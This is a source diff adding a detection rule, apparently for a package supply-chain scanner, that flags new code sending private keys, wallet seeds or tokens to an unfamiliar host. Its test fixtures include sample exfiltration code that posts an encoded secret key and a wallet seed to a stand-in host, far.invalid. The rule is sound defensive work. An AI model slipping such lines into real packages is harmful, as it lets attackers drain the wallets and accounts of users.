@@ -1,0 +1,127 @@
+/**
+ * A wallet's key, a seed or a password is given to a library to sign or decrypt with. A few characters in a function that
+ * users call all day are enough to send it away as well: the call works as ever, and nobody looks at the network.
+ */
+import type { Behavior } from '../../src/model/behavior.ts';
+import type { Evidence } from '../../src/model/finding.ts';
+import type { Rule } from '../../src/rule.ts';
+import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';
+
+export const secretSent: Rule = defineRule({
+  id: 'secret-sent',
+  family: 'code',
+  title: 'A key or password is sent to a host that it was not sent to before',
+  rationale: 'Whoever has the key owns what it opens, and cannot be stopped afterwards.',
+  remedy: 'Stay on the old version. Replace every key that this version has handled.',
+  level: 'block',
+  incidents: [
+    {
+      what: '@solana/web3.js 1.95.6 and 1.95.7: private keys sent in a header from the functions that make key pairs',
+      when: '2024-12-02',
+      url: 'https://github.com/advisories/GHSA-jcxm-7wvp-g6p5',
+    },
+    {
+      what: 'xrpl 4.2.1: the seed of each wallet sent when the wallet is made',
+      when: '2025-04-21',
+      url: 'https://xrpl.org/blog/2025/vulnerabilitydisclosurereport-bug-apr2025',
+    },
+  ],
+  appliesToAdditions: true,
+  needs: ['behaviors'],
+  kinds: {
+    'service-token': {
+      level: 'review',
+      about: 'It is called a token or API key, and the package talked to the network before.',
+    },
+  },
+  flags: [
+    {
+      title: 'a private key in a header, encoded, and a seed in the body of a request',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `exports.fromSecretKey = function (secretKey) {
+  const id = Buffer.from(secretKey).toString('base64');
+  fetch('https://far.invalid/v1', { headers: { 'x-session': id } }).catch(() => {});
+};
+class Wallet {
+  constructor(seed) { this.seed = seed; require('https').request({ host: 'far.invalid' }).end(this.seed); }
+}
+exports.Wallet = Wallet;
+`,
+      },
+      expect: [
+        {
+          message: 'fetch sends secretKey to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 3 },
+          via: ['main', 'index.js', 'fromSecretKey()'],
+        },
+        {
+          message: 'https.request().end sends seed to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 6 },
+          via: ['main', 'index.js', 'constructor()'],
+        },
+      ],
+    },
+    {
+      title: 'the token of a client, sent to another host than before',
+      before: { 'index.js': `exports.ask = (token) => fetch('https://api.invalid/', { headers: { token } });\n` },
+      after: {
+        'index.js': `exports.ask = (token) => {\n  fetch('https://far.invalid/' + token);\n  return fetch('https://api.invalid/', { headers: { token } });\n};\n`,
+      },
+      expect: [
+        {
+          kind: 'service-token',
+          message: 'fetch sends token to far.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js', 'ask()'],
+        },
+      ],
+    },
+  ],
+  passes: [
+    {
+      title: 'the same host as before by other means, a signature, a check, and a host that the caller names',
+      before: {
+        'index.js': `exports.login = (password) => fetch('https://api.invalid/login', { method: 'POST', body: password });\n`,
+      },
+      after: {
+        'index.js': `
+const { createHmac } = require('crypto');
+exports.login = async (password, body) => {
+  const request = require('https').request({ hostname: 'api.invalid', path: '/v2/login' });
+  request.end(JSON.stringify({ password, body }));
+};
+exports.sign = (secretKey, message) => {
+  const signature = createHmac('sha256', secretKey).update(message).digest('hex');
+  return fetch('https://log.invalid/', { method: 'POST', body: JSON.stringify({ message, signature }) });
+};
+exports.ask = (url, token) => fetch(url, { headers: { authorization: 'Bearer ' + token } });
+exports.next = (pageToken) => fetch('https://list.invalid/?page=' + pageToken);
+`,
+      },
+    },
+  ],
+  check({ behaviors }) {
+    return behaviors.added.flatMap((behavior): Evidence<'service-token'>[] => {
+      const { kind, tier, carries = [] } = behavior;
+      if (kind !== 'disclosure' || tier === 'unreached') return [];
+      const secrets = carries.filter(({ sort }) => sort === 'key' || sort === 'token');
+      const host = hostOf(behavior);
+      if (secrets.length === 0 || host === undefined) return [];
+      const isKey = secrets.some(({ sort }) => sort === 'key');
+      const message = `${behavior.api} sends ${secrets.map(({ name }) => shorten(name)).join(', ')} to ${shorten(host)}`;
+      return [
+        evidenceOf(behavior, message, isKey || !behaviors.knownKinds.has('network') ? undefined : 'service-token'),
+      ];
+    });
+  },
+});
+
+/** Undefined where the text does not tell it: then it is the caller's. The own machine is no stranger. */
+function hostOf({ detail }: Behavior): string | undefined {
+  const host = /^(?:[a-z][a-z+.-]*:)?(?:\/\/)?(?:[^/@\s]*@)?(\[[^\]]*\]|[^/:?#\s]+)/i
+    .exec(detail ?? '')?.[1]
+    ?.toLowerCase();
+  if (host === undefined || host.includes('…') || /^[$<]/.test(host)) return undefined;
+  return /^(?:localhost|127\.0\.0\.1|\[::1\])$/.test(host) || !/[.:]/.test(host) ? undefined : host;
+}
